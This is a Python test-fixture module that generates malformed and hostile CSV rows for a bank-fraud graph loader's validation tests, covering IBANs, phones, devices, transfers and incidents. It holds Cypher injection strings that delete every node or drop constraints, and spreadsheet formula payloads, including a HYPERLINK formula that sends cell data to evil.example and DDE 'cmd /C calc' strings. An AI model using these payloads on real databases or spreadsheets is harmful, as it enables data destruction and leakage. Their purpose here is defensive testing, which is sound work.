"""A bad-input corpus for every feed: good rows whose fate is "loaded", bad rows whose
fate is "rejected, naming this field", written as raw bytes so that malformed records,
latin-1 bytes and control characters reach the loader exactly as a participant might
send them."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from pathlib import Path

from tests.graph_loader.conftest import kz_iban

T = "2026-03-01T10:00:00+05:00"
NO_ZONE = "2026-03-01T10:00:00"
FUTURE = "2099-01-01T00:00:00+05:00"
HUGE = "9" * 200_000  # 200 KB in one field
LATIN1 = "\udce9"  # written as the single byte 0xE9: latin-1 'e acute', invalid UTF-8

CYPHER_INJECTION = [
    "x' }) MATCH (n) DETACH DELETE n //",
    '"; DROP CONSTRAINT account_id; //',
    "x` RETURN 1 UNION MATCH (n) DETACH DELETE n //",
    "1}) WITH 1 AS x CALL { MATCH (m) DETACH DELETE m } //",
]
CSV_INJECTION = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@")

GOOD_IBANS = [kz_iban("125", i) for i in range(4)] + [kz_iban("601", 7)]
UNKNOWN_IBAN = kz_iban("999", 1)  # well-formed, never loaded: a dangling reference
BAD_CHECK_IBAN = GOOD_IBANS[0][:2] + ("00" if GOOD_IBANS[0][2:4] != "00" else "01") \
    + GOOD_IBANS[0][4:]
IINS = ["900101300101", "850505400202", "770707300303"]
PHONES = ["+7 701 000 00 01", "+7 705 000 00 02"]
PHONE_FORMS = ["8 (701) 000-00-01", "+7-705-000-00-02"]  # tolerated spellings of PHONES
# A free-text value that carries raw identifiers: stored scrubbed, never raw.
ID_TEXT = f"called from {PHONES[0]}, holder {IINS[1]}, paid to {GOOD_IBANS[1]}"
# Identifiers as people write them: grouped, glued to a word, an IP, a device id.
GROUPED_IBAN = " ".join(GOOD_IBANS[2][i:i + 4] for i in range(0, 20, 4))
FINGERPRINT = "Mozilla/5.0 fp 9f3c"  # a device id with spaces: legal (docs/feeds.md)
WRITTEN_TEXT = (f"ИИН{IINS[2]}, счёт {GROUPED_IBAN}, вход с 10.1.2.3 и 2001:db8::1, "
                f"устройство dev-a / {FINGERPRINT}, тел. 8(705)000-00-02")
ARABIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
# Latest expiry there is: year 10000 in UTC, which once crashed the load.
LAST_EXPIRY = "9999-12-31T23:59:59-12:00"
BAD_TIMES = [("2026-03-01_10:00:00+05:00", "ISO-8601"), ("2026-W09-7T10:00:00+05:00", "ISO-8601"),
             ("20260301T100000+0500", "ISO-8601"), ("2026-03-01T24:00:00+05:00", "ISO-8601"),
             ("2026-03-01T10:00:00+15:00", "offset"), ("2026-03-01T10:00:00+05:60", "offset"),
             ("2026-03-01T10:00:00 +05:00", "ISO-8601"), ("1989-12-31T23:59:59Z", "1990"),
             ("２０２６-03-01T10:00:00+05:00", "ISO-8601"), ("9" * 41, "too long")]


@dataclass
class Bad:
    row: list[str] | None  # None: `raw` is written verbatim (a malformed record)
    fields: tuple[str, ...]  # the field the rejection must name (any of these)
    reason: str = ""  # a fragment the reason must contain
    raw: str = ""


@dataclass
class FeedCorpus:
    name: str
    header: list[str]
    good: list[list[str]]
    bad: list[Bad] = field(default_factory=list)

    def write(self, directory: Path) -> None:
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(self.header)
        w.writerows(self.good)
        for b in self.bad:
            if b.row is None:
                buf.write(b.raw)
            else:
                w.writerow(b.row)
        (directory / f"{self.name}.csv").write_bytes(
            buf.getvalue().encode("utf-8", "surrogateescape"))


def _common(row: list[str], ncols: int) -> list[Bad]:
    """Malformed records every feed gets: too few fields, too many, an unterminated quote
    (last: it swallows the rest of the file by nature)."""
    too_many = ",".join([*row, "extra"]) + "\n"
    return [Bad(None, ("(record)",), "expected", raw="only,two\n"),
            Bad(None, ("(record)",), "expected", raw=too_many)]


def _unterminated(ncols: int) -> Bad:
    return Bad(None, ("(record)",), "malformed", raw='"never closed,' + "x," * (ncols - 1) + "\n")


def _injections(row: list[str], col: int, name: str) -> list[Bad]:
    out = []
    for s in CYPHER_INJECTION + CSV_INJECTION:
        r = list(row)
        r[col] = s
        out.append(Bad(r, (name,)))
    return out


def _with(row: list[str], col: int, value: str, name: str, reason: str = "") -> Bad:
    r = list(row)
    r[col] = value
    return Bad(r, (name,), reason)


def accounts() -> FeedCorpus:
    h = ["iban", "bank", "holder_iin", "opened_at", "kind"]
    good = [[GOOD_IBANS[0], "HALYK", IINS[0], T, "personal"],
            [GOOD_IBANS[1], "KASPI", IINS[1], T, "personal"],
            [GOOD_IBANS[2], "KASPI", IINS[2], T, "personal"],
            [GOOD_IBANS[3], "FORTE", IINS[2], T, "business"],
            [GOOD_IBANS[4].lower(), "forte", IINS[0], "2026-03-01T05:00:00Z", "merchant"]]
    base = [kz_iban("722", 50), "HALYK", IINS[0], T, "personal"]
    bad = [
        _with(base, 0, "KZ00BAD", "iban", "IBAN"),
        _with(base, 0, BAD_CHECK_IBAN, "iban", "check digits"),
        _with(base, 0, GOOD_IBANS[0], "iban", "duplicate"),
        _with(base, 0, HUGE, "iban"),
        _with(base, 0, "KZ" + LATIN1 + "1", "iban", "UTF-8"),
        *_injections(base, 0, "iban"),
        *_injections(base, 1, "bank"),
        _with(base, 1, "A" * 200_000, "bank"),
        _with(base, 1, "HAL" + LATIN1 + "YK", "bank", "UTF-8"),
        _with(base, 1, "HAL\x07YK", "bank"),
        _with(base, 2, "12345", "holder_iin", "12 digits"),
        _with(base, 2, "901301300101", "holder_iin", "month"),
        _with(base, 2, CYPHER_INJECTION[0], "holder_iin"),
        _with(base, 3, NO_ZONE, "opened_at", "time zone"),
        _with(base, 3, FUTURE, "opened_at", "future"),
        _with(base, 3, "1899-01-01T00:00:00+05:00", "opened_at", "1990"),
        _with(base, 3, "yesterday", "opened_at", "ISO-8601"),
        *(_with(base, 3, v, "opened_at", why) for v, why in BAD_TIMES),
        # Unicode digits and letters that Python's \d and upper() would take.
        _with(base, 0, GOOD_IBANS[0][:2] + GOOD_IBANS[0][2:4].translate(ARABIC)
              + GOOD_IBANS[0][4:], "iban", "IBAN"),
        _with(base, 0, GOOD_IBANS[0][:10] + GOOD_IBANS[0][10:].translate(FULLWIDTH), "iban",
              "IBAN"),
        _with(base, 0, kz_iban("722", 50)[:-2] + "ß", "iban", "IBAN"),
        _with(base, 1, "HALßK", "bank", "bank code"),
        _with(base, 2, IINS[0].translate(FULLWIDTH), "holder_iin", "12 digits"),
        _with(base, 2, IINS[0].translate(ARABIC), "holder_iin", "12 digits"),
        _with(base, 4, "wizard", "kind", "one of"),
        _with(base, 4, "personal\x1b[2J", "kind", "one of"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("accounts", h, good, bad)


# Printable device ids that look like attacks: legal device ids, so they are
# loaded (as pseudonyms) and must not do anything.
ODD_DEVICES = ["x'})MATCH(n)DETACH/**/DELETE/**/n//", '=HYPERLINK("http://evil.example")',
               "x' }) MATCH (d) SET d.owned = true //"]


def devices() -> FeedCorpus:
    h = ["device_id", "platform", "first_seen_at"]
    good = [["dev-a", "android", T], ["dev-b", "ios", T],
            [ODD_DEVICES[0], "web", T], [ODD_DEVICES[1], "other", T], [FINGERPRINT, "web", T],
            [ODD_DEVICES[2], "web", T]]
    base = ["dev-z", "android", T]
    bad = [
        _with(base, 0, "dev\ta b", "device_id", "printable"),
        _with(base, 0, "dev\u00a0b", "device_id", "printable"),
        _with(base, 0, "устройство", "device_id", "printable"),
        _with(base, 0, "d" * 129, "device_id", "printable"),
        _with(base, 0, "d" * 200_000, "device_id"),
        _with(base, 0, "\x01dev", "device_id"),
        _with(base, 0, "dev-" + LATIN1, "device_id", "UTF-8"),
        _with(base, 0, "dev-a", "device_id", "duplicate"),
        _with(base, 1, "symbian", "platform", "one of"),
        *_injections(base, 1, "platform"),
        _with(base, 2, NO_ZONE, "first_seen_at", "time zone"),
        _with(base, 2, FUTURE, "first_seen_at", "future"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("devices", h, good, bad)


def phones() -> FeedCorpus:
    h = ["event_id", "number", "operator", "holder_iin", "event", "at"]
    good = [["s1", PHONES[0], "KCELL", IINS[0], "new_sim", T],
            ["s2", PHONE_FORMS[1], "BEELINE", IINS[1], "swap", "2026-03-03T10:00:00+05:00"]]
    base = ["s9", PHONES[1], "TELE2", IINS[2], "port", T]
    bad = [
        *_injections(base, 0, "event_id"),
        _with(base, 0, "s1", "event_id", "duplicate"),
        _with(base, 0, "s" * 200_000, "event_id"),
        _with(base, 1, "12345", "number", "phone"),
        _with(base, 1, "+0 555 010 0199", "number", "phone"),
        _with(base, 1, "+8 705 000 00 02", "number", "phone"),
        _with(base, 1, PHONES[1].translate(ARABIC), "number", "phone"),
        _with(base, 1, "+7 705 000 00 0２", "number", "phone"),
        _with(base, 0, "s１", "event_id", ""),
        *_injections(base, 1, "number"),
        *_injections(base, 2, "operator"),
        _with(base, 2, "KC" + LATIN1 + "LL", "operator", "UTF-8"),
        _with(base, 3, "9001013001", "holder_iin", "12 digits"),
        _with(base, 4, "steal", "event", "one of"),
        _with(base, 5, NO_ZONE, "at", "time zone"),
        _with(base, 5, FUTURE, "at", "future"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("phones", h, good, bad)


def logins() -> FeedCorpus:
    h = ["session_id", "iban", "device_id", "ip", "at"]
    good = [["l1", GOOD_IBANS[1], "dev-a", "10.1.2.3", T],
            ["l2", GOOD_IBANS[2], "dev-a", "2001:db8::1", "2026-03-02T10:00:00+05:00"],
            ["l3", GOOD_IBANS[3], ODD_DEVICES[0], "10.1.2.5", T]]
    base = ["l9", GOOD_IBANS[0], "dev-b", "10.9.9.9", T]
    bad = [
        *_injections(base, 0, "session_id"),
        _with(base, 0, "l1", "session_id", "duplicate"),
        _with(base, 1, UNKNOWN_IBAN, "iban", "dangling"),
        _with(base, 1, CYPHER_INJECTION[1], "iban"),
        _with(base, 2, "dev\twith tab", "device_id"),
        _with(base, 3, "１０.1.2.3", "ip", "IPv4"),
        _with(base, 4, "2026-03-01_10:00:00+05:00", "at", "ISO-8601"),
        _with(base, 3, "999.1.1.1", "ip", "IPv4"),
        _with(base, 3, "1" * 200_000, "ip"),
        *_injections(base, 3, "ip"),
        _with(base, 4, NO_ZONE, "at", "time zone"),
        _with(base, 4, FUTURE, "at", "future"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("logins", h, good, bad)


def transfers() -> FeedCorpus:
    h = ["tx_id", "from_iban", "to_iban", "amount_kzt", "at", "channel", "interbank"]
    good = [["t1", GOOD_IBANS[0], GOOD_IBANS[1], "150000", "2026-03-04T10:00:00+05:00", "app",
             "true"],
            ["t2", GOOD_IBANS[1], GOOD_IBANS[2], "149000.5", "2026-03-04T10:20:00Z", "web",
             "false"],
            ["t3", GOOD_IBANS[2], GOOD_IBANS[3], "100000000000", T, "atm", "1"],
            ["t4", GOOD_IBANS[3], GOOD_IBANS[4], "0.01", T, "qr", "no"],
            # Counterparties outside the participants: never rejected for being unknown.
            ["t5", GOOD_IBANS[0], UNKNOWN_IBAN, "1000", T, "app", "true"],
            ["t6", GOOD_IBANS[1], "4111 1111 1111 1111", "1000", T, "app", "true"],
            ["t7", "GB82 WEST 1234 5698 7654 32", GOOD_IBANS[2], "1000", T, "web", "true"],
            ["t8", GOOD_IBANS[3], "wallet:KASPI:77010000001", "1000", T, "app", "false"]]
    base = ["t9", GOOD_IBANS[0], GOOD_IBANS[2], "1000", T, "app", "true"]
    bad = [
        *_injections(base, 0, "tx_id"),
        _with(base, 0, "t1", "tx_id", "duplicate"),
        _with(base, 0, "t\x01x", "tx_id"),
        _with(base, 0, "t" * 200_000, "tx_id"),
        _with(base, 1, "KZ00BAD", "from_iban", "IBAN"),
        _with(base, 1, CYPHER_INJECTION[0], "from_iban"),
        _with(base, 2, "4111 1111 1111 1112", "to_iban", "Luhn"),
        _with(base, 2, "GB00 WEST 1234 5698 7654 32", "to_iban", "check digits"),
        _with(base, 1, "wallet:;DROP", "from_iban", "wallet"),
        _with(base, 2, GOOD_IBANS[0], "to_iban", "same account"),
        _with(base, 3, "-5", "amount_kzt", "positive"),
        _with(base, 3, "0", "amount_kzt", "positive"),
        _with(base, 3, "-0.00", "amount_kzt", "positive"),
        _with(base, 3, "100000000000.01", "amount_kzt", "exceeds"),
        _with(base, 3, "1e400", "amount_kzt", "exceeds"),
        _with(base, 3, "NaN", "amount_kzt", "finite"),
        _with(base, 3, "Infinity", "amount_kzt", "finite"),
        _with(base, 3, "abc", "amount_kzt", "not a number"),
        _with(base, 3, HUGE, "amount_kzt", "too long"),
        _with(base, 3, "0.001", "amount_kzt", "positive"),
        _with(base, 3, "0.004", "amount_kzt", "positive"),
        _with(base, 3, "1e-9", "amount_kzt", "positive"),
        _with(base, 3, "١٠٠٠", "amount_kzt", "not a number"),
        _with(base, 3, "1_000", "amount_kzt", "not a number"),
        _with(base, 3, "1,000.00", "amount_kzt", "not a number"),
        _with(base, 3, "0x10", "amount_kzt", "not a number"),
        _with(base, 3, "100000000000.001", "amount_kzt", "exceeds"),
        _with(base, 6, "\u0130", "interbank", "true or false"),
        _with(base, 5, "\u0430pp", "channel", "one of"),  # a Cyrillic 'а'
        _with(base, 1, GOOD_IBANS[0].replace("KZ", "ＫＺ"), "from_iban", "IBAN"),
        *_injections(base, 3, "amount_kzt"),
        _with(base, 4, NO_ZONE, "at", "time zone"),
        _with(base, 4, FUTURE, "at", "future"),
        _with(base, 4, "2026-02-30T10:00:00+05:00", "at", "ISO-8601"),
        *_injections(base, 5, "channel"),
        _with(base, 5, "ap" + LATIN1, "channel", "UTF-8"),
        _with(base, 6, "maybe", "interbank", "true or false"),
        Bad(None, ("tx_id", "(record)"), raw="t\x00nul," + ",".join(base[1:]) + "\n"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("transfers", h, good, bad)


def calls() -> FeedCorpus:
    h = ["call_id", "caller", "callee", "at", "duration_s"]
    good = [["c1", PHONES[1], PHONES[0], "2026-03-04T09:55:00+05:00", "120"],
            ["c2", PHONE_FORMS[0], PHONE_FORMS[1], T, "0"]]
    base = ["c9", PHONES[1], PHONES[0], T, "60"]
    bad = [
        *_injections(base, 0, "call_id"),
        _with(base, 0, "c1", "call_id", "duplicate"),
        _with(base, 1, "+0 555 010 0199", "caller", "phone"),
        *_injections(base, 2, "callee"),
        _with(base, 2, PHONE_FORMS[1], "callee", "own number"),
        _with(base, 3, NO_ZONE, "at", "time zone"),
        _with(base, 3, FUTURE, "at", "future"),
        _with(base, 4, "-1", "duration_s", "between"),
        _with(base, 4, "86401", "duration_s", "between"),
        _with(base, 4, "1.5", "duration_s", "integer"),
        _with(base, 4, HUGE, "duration_s", "integer"),
        _with(base, 4, "١٢٠", "duration_s", "integer"),
        _with(base, 4, "12٠", "duration_s", "integer"),
        _with(base, 1, "+8 705 000 00 02", "caller", "phone"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("calls", h, good, bad)


def incidents() -> FeedCorpus:
    h = ["incident_id", "reported_at", "reporter", "scheme", "victim_iban", "amount_kzt",
         "beneficiary_ibans", "caller_phone", "occurred_at"]
    good = [["inc-1", "2026-03-05T12:00:00+05:00", "HALYK", "phone_fraud", GOOD_IBANS[0],
             "150000", GOOD_IBANS[1], PHONES[1], "2026-03-04T10:00:00+05:00"],
            ["inc-2", T, "AFC", "dropper", GOOD_IBANS[4], "5000",
             f"{GOOD_IBANS[2]}; {GOOD_IBANS[3]}", "", ""],
            # The money went to a card and an account no participant holds; the fraudster
            # called from abroad.
            ["inc-3", T, "AFC", "phone_fraud", GOOD_IBANS[1], "7000",
             f"4111 1111 1111 1111;{UNKNOWN_IBAN}", "+44 7911 123456", ""]]
    base = ["inc-9", T, "KASPI", "other", GOOD_IBANS[0], "1000", GOOD_IBANS[2], "", ""]
    bad = [
        *_injections(base, 0, "incident_id"),
        _with(base, 0, "inc-1", "incident_id", "duplicate"),
        _with(base, 1, NO_ZONE, "reported_at", "time zone"),
        _with(base, 1, FUTURE, "reported_at", "future"),
        *_injections(base, 2, "reporter"),
        _with(base, 3, "heist", "scheme", "one of"),
        _with(base, 4, UNKNOWN_IBAN, "victim_iban", "dangling"),
        _with(base, 5, "-1", "amount_kzt", "positive"),
        _with(base, 5, "1e12", "amount_kzt", "exceeds"),
        _with(base, 6, "4111 1111 1111 1112", "beneficiary_ibans", "Luhn"),
        _with(base, 5, "0.001", "amount_kzt", "positive"),
        _with(base, 8, LAST_EXPIRY, "occurred_at", "future"),
        _with(base, 6, " ; ;", "beneficiary_ibans", "1-100"),
        _with(base, 6, ";".join([GOOD_IBANS[2]] * 101), "beneficiary_ibans", "1-100"),
        _with(base, 6, f"{GOOD_IBANS[2]};{CYPHER_INJECTION[0]}", "beneficiary_ibans"),
        _with(base, 6, HUGE, "beneficiary_ibans"),
        _with(base, 7, "12345", "caller_phone", "phone"),
        _with(base, 7, CSV_INJECTION[1], "caller_phone", "phone"),
        _with(base, 8, NO_ZONE, "occurred_at", "time zone"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("incidents", h, good, bad)


# Free text may hold anything printable: these reasons are stored (identifiers scrubbed),
# and must come out defused wherever fraudgraph writes them to a CSV.
STORED_REASONS = [CYPHER_INJECTION[0], CYPHER_INJECTION[1], CSV_INJECTION[0],
                  CSV_INJECTION[2], ID_TEXT, WRITTEN_TEXT]


def list_entries() -> FeedCorpus:
    h = ["entry_id", "entity_kind", "entity_id", "list", "reason", "source", "since", "until"]
    good = [["le-1", "account", GOOD_IBANS[2], "black", STORED_REASONS[0], "POLICE", T, ""],
            ["le-2", "phone", PHONE_FORMS[1], "grey", STORED_REASONS[1], "AFC", T,
             "2027-03-01T00:00:00+05:00"],
            ["le-3", "person", IINS[0], "grey", STORED_REASONS[2], "AFC", T, ""],
            ["le-4", "device", "dev-b", "black", STORED_REASONS[3], "KASPI", T, ""],
            ["le-5", "account", GOOD_IBANS[3], "black", STORED_REASONS[4], "AFC", T, ""],
            ["le-6", "device", FINGERPRINT, "grey", STORED_REASONS[5], "AFC", T, LAST_EXPIRY],
            # Names an account no accounts feed sent: a bare Account node, which a transfer
            # above already made an :External one; a reload must report the same.
            ["le-7", "account", UNKNOWN_IBAN, "black", "police notice", "POLICE", T, ""]]
    base = ["le-9", "account", GOOD_IBANS[1], "grey", "suspected mule", "AFC", T, ""]
    bad = [
        *_injections(base, 0, "entry_id"),
        _with(base, 0, "le-1", "entry_id", "duplicate"),
        _with(base, 1, "planet", "entity_kind", "one of"),
        _with(base, 2, "KZ00BAD", "entity_id", "IBAN"),
        *_injections(base, 2, "entity_id"),
        _with(["le-9", "person", "12345", *base[3:]], 2, "12345", "entity_id", "12 digits"),
        _with(["le-9", "phone", "x", *base[3:]], 2, "+0 555 010 0199", "entity_id", "phone"),
        _with(base, 3, "white", "list", "one of"),
        _with(base, 4, "r" * 200_000, "reason", "500"),
        _with(base, 4, "r" * (1 << 20), "reason", "500"),
        _with(base, 3, "blac\u212a", "list", "one of"),
        _with(base, 7, "9999-12-31T23:59:60-12:00", "until", "ISO-8601"),
        _with(base, 7, "10000-01-01T00:00:00Z", "until", "ISO-8601"),
        _with(base, 4, "bad\x07reason", "reason", "control"),
        _with(base, 4, "ra" + LATIN1 + "son", "reason", "UTF-8"),
        _with(base, 4, "", "reason", "missing"),
        *_injections(base, 5, "source"),
        _with(base, 6, NO_ZONE, "since", "time zone"),
        _with(base, 6, FUTURE, "since", "future"),
        _with(base, 7, "2026-02-01T00:00:00+05:00", "until", "after"),
        _with(base, 7, NO_ZONE, "until", "time zone"),
        # rejected for its list, but its reason holds raw identifiers: the rejects file
        # must not carry them raw
        Bad(["le-8", "account", GOOD_IBANS[1], "white", ID_TEXT, "AFC", T, ""], ("list",),
            "one of"),
        *_common(base, len(h)), _unterminated(len(h)),
    ]
    return FeedCorpus("list_entries", h, good, bad)


def all_feeds() -> list[FeedCorpus]:
    return [accounts(), devices(), phones(), logins(), transfers(), calls(), incidents(),
            list_entries()]


def raw_identifiers() -> set[str]:
    """Every raw personal identifier in the corpus, as written and normalised."""
    ids = set(GOOD_IBANS) | {UNKNOWN_IBAN, BAD_CHECK_IBAN, kz_iban("722", 50)} | set(IINS)
    ids |= {i.lower() for i in GOOD_IBANS} | {GROUPED_IBAN}
    ids |= {"4111 1111 1111 1111", "4111111111111111", "GB82 WEST 1234 5698 7654 32",
            "GB82WEST12345698765432", "77010000001", "7911123456", "447911123456"}
    for p in PHONES + PHONE_FORMS:
        ids.add(p)
        digits = "".join(c for c in p if c.isdigit())
        ids.add("7" + digits[1:])
    return ids


def raw_devices_and_ips() -> set[str]:
    """The corpus's loaded device ids and IPs (too short or common to scan reports for,
    but never to be found in a graph property)."""
    return {"dev-a", "dev-b", FINGERPRINT, *ODD_DEVICES, "10.1.2.3", "10.1.2.5",
            "2001:db8::1"}
